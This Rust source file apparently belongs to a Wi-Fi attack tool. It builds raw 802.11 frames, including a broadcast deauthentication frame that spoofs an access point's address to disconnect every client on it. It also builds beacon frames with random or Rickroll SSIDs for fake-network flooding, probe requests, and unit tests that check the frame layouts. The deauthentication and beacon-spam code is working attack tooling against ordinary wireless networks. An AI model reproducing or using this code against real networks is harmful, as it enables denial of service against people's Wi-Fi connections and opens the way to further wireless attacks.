//! Hand-built management frames. Templates are patched in place before they
//! are handed to the radio, which adds its own radiotap header.

use rand::{thread_rng, Rng};

use crate::frame::{MacAddress, MAX_SSID_LEN};

pub const RANDOM_SSID_LEN: usize = 8;

const SSID_CHARSET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";

pub const DEAUTH_TEMPLATE: [u8; 26] = [
    0xc0, 0x00, 0x3a, 0x01, /* frame control, duration */
    0xff, 0xff, 0xff, 0xff, 0xff, 0xff, /* destination */
    0x00, 0x00, 0x00, 0x00, 0x00, 0x00, /* source */
    0x00, 0x00, 0x00, 0x00, 0x00, 0x00, /* bssid */
    0xf0, 0xff, /* sequence */
    0x02, 0x00, /* reason: previous authentication no longer valid */
];

pub const SUPPORTED_RATES: [u8; 8] = [0x82, 0x84, 0x8B, 0x96, 0x24, 0x30, 0x48, 0x6C];

/// WPA2-PSK, CCMP pairwise and group.
const RSN_PSK_CCMP: [u8; 20] = [
    0x01, 0x00, 0x00, 0x0F, 0xAC, 0x04, 0x01, 0x00, 0x00, 0x0F, 0xAC, 0x04, 0x01, 0x00, 0x00, 0x0F,
    0xAC, 0x02, 0x0C, 0x00,
];

pub const RICKROLL: [&str; 8] = [
    "01 Never gonna give you up",
    "02 Never gonna let you down",
    "03 Never gonna run around",
    "04 and desert you",
    "05 Never gonna make you cry",
    "06 Never gonna say goodbye",
    "07 Never gonna tell a lie",
    "08 and hurt you",
];

/// Wrapping 12-bit sequence number source.
#[derive(Debug, Default, Clone)]
pub struct SequenceCounter(u16);

impl SequenceCounter {
    pub fn next(&mut self) -> u16 {
        self.0 = if self.0 >= 4095 { 0 } else { self.0 + 1 };
        self.0
    }
}

pub fn sequence_control(sequence: u16) -> [u8; 2] {
    ((sequence & 0x0FFF) << 4).to_le_bytes()
}

pub fn random_ssid(len: usize) -> String {
    let mut rng = thread_rng();
    (0..len)
        .map(|_| SSID_CHARSET[rng.gen_range(0..SSID_CHARSET.len())] as char)
        .collect()
}

pub fn random_channel() -> u8 {
    thread_rng().gen_range(1..=11)
}

pub fn build_deauth(
    destination: &MacAddress,
    source: &MacAddress,
    bssid: &MacAddress,
    reason: u16,
) -> Vec<u8> {
    let mut frame = DEAUTH_TEMPLATE.to_vec();
    frame[4..10].copy_from_slice(&destination.0);
    frame[10..16].copy_from_slice(&source.0);
    frame[16..22].copy_from_slice(&bssid.0);
    frame[24..26].copy_from_slice(&reason.to_le_bytes());
    frame
}

/// Deauth from the AP to everyone on it.
pub fn build_broadcast_deauth(bssid: &MacAddress) -> Vec<u8> {
    build_deauth(&MacAddress::BROADCAST, bssid, bssid, 2)
}

fn push_ssid(frame: &mut Vec<u8>, ssid: &str) {
    let bytes = ssid.as_bytes();
    let bytes = &bytes[..bytes.len().min(MAX_SSID_LEN)];
    frame.push(0x00);
    frame.push(bytes.len() as u8);
    frame.extend_from_slice(bytes);
}

fn push_rates(frame: &mut Vec<u8>) {
    frame.push(0x01);
    frame.push(SUPPORTED_RATES.len() as u8);
    frame.extend_from_slice(&SUPPORTED_RATES);
}

pub fn build_beacon(
    bssid: &MacAddress,
    ssid: &str,
    channel: u8,
    sequence: u16,
    protected: bool,
) -> Vec<u8> {
    let mut frame = Vec::with_capacity(128);
    frame.extend_from_slice(&[0x80, 0x00, 0x00, 0x00]);
    frame.extend_from_slice(&MacAddress::BROADCAST.0);
    frame.extend_from_slice(&bssid.0);
    frame.extend_from_slice(&bssid.0);
    frame.extend_from_slice(&sequence_control(sequence));
    frame.extend_from_slice(&[0u8; 8]); // timestamp
    frame.extend_from_slice(&100u16.to_le_bytes());
    let capability: u16 = if protected { 0x0411 } else { 0x0401 };
    frame.extend_from_slice(&capability.to_le_bytes());

    push_ssid(&mut frame, ssid);
    push_rates(&mut frame);
    frame.extend_from_slice(&[0x03, 0x01, channel]);
    if protected {
        frame.push(0x30);
        frame.push(RSN_PSK_CCMP.len() as u8);
        frame.extend_from_slice(&RSN_PSK_CCMP);
    }
    frame
}

/// Probe request to broadcast. An empty SSID is the wildcard.
pub fn build_probe_request(source: &MacAddress, ssid: &str, sequence: u16) -> Vec<u8> {
    let mut frame = Vec::with_capacity(64);
    frame.extend_from_slice(&[0x40, 0x00, 0x00, 0x00]);
    frame.extend_from_slice(&MacAddress::BROADCAST.0);
    frame.extend_from_slice(&source.0);
    frame.extend_from_slice(&MacAddress::BROADCAST.0);
    frame.extend_from_slice(&sequence_control(sequence));
    push_ssid(&mut frame, ssid);
    push_rates(&mut frame);
    frame
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::frame::{Encryption, Frame, FrameKind};

    #[test]
    fn deauth_matches_template_layout() {
        let bssid: MacAddress = "00:11:22:33:44:55".parse().unwrap();
        let frame = build_broadcast_deauth(&bssid);
        assert_eq!(frame.len(), 26);
        assert_eq!(&frame[..4], &[0xc0, 0x00, 0x3a, 0x01]);
        assert_eq!(&frame[4..10], &[0xff; 6]);
        assert_eq!(&frame[10..16], &bssid.0);
        assert_eq!(&frame[16..22], &bssid.0);
        assert_eq!(&frame[22..], &[0xf0, 0xff, 0x02, 0x00]);

        let parsed = Frame::parse(&frame).unwrap();
        assert_eq!(parsed.kind, FrameKind::Deauthentication);
        assert_eq!(parsed.reason_code(), Some(2));
    }

    #[test]
    fn beacon_parses_back() {
        let bssid = MacAddress::random();
        let frame = build_beacon(&bssid, "Never gonna give you up", 6, 42, true);
        let parsed = Frame::parse(&frame).unwrap();
        assert_eq!(parsed.kind, FrameKind::Beacon);
        assert_eq!(parsed.header.bssid(), bssid);
        assert_eq!(parsed.header.sequence_number(), 42);
        assert_eq!(parsed.beacon_interval(), Some(100));
        assert_eq!(frame[37], 23);
        let info = parsed.station_info().unwrap();
        assert_eq!(info.ssid.as_deref(), Some("Never gonna give you up"));
        assert_eq!(info.channel, Some(6));
        assert_eq!(
            Encryption::detect(&info, parsed.capability().unwrap()),
            Encryption::Wpa2
        );

        let open = build_beacon(&bssid, "open", 1, 1, false);
        let parsed = Frame::parse(&open).unwrap();
        let info = parsed.station_info().unwrap();
        assert_eq!(
            Encryption::detect(&info, parsed.capability().unwrap()),
            Encryption::Open
        );
    }

    #[test]
    fn beacon_ssid_is_truncated() {
        let frame = build_beacon(&MacAddress::random(), &"a".repeat(40), 1, 0, false);
        assert_eq!(frame[37] as usize, MAX_SSID_LEN);
    }

    #[test]
    fn probe_request_is_wildcard_when_empty() {
        let source = MacAddress::random();
        let frame = build_probe_request(&source, "", 7);
        assert_eq!(&frame[24..26], &[0x00, 0x00]);
        let parsed = Frame::parse(&frame).unwrap();
        assert_eq!(parsed.kind, FrameKind::ProbeRequest);
        assert_eq!(parsed.header.transmitter(), source);
        assert_eq!(parsed.station_info().unwrap().ssid.as_deref(), Some(""));
    }

    #[test]
    fn random_ssids_use_charset() {
        let ssid = random_ssid(RANDOM_SSID_LEN);
        assert_eq!(ssid.len(), 8);
        assert!(ssid.chars().all(|c| c.is_ascii_alphanumeric()));
        assert!((1..=11).contains(&random_channel()));
    }

    #[test]
    fn sequence_wraps_at_twelve_bits() {
        let mut seq = SequenceCounter(4094);
        assert_eq!(seq.next(), 4095);
        assert_eq!(seq.next(), 0);
        assert_eq!(sequence_control(1), [0x10, 0x00]);
    }
}
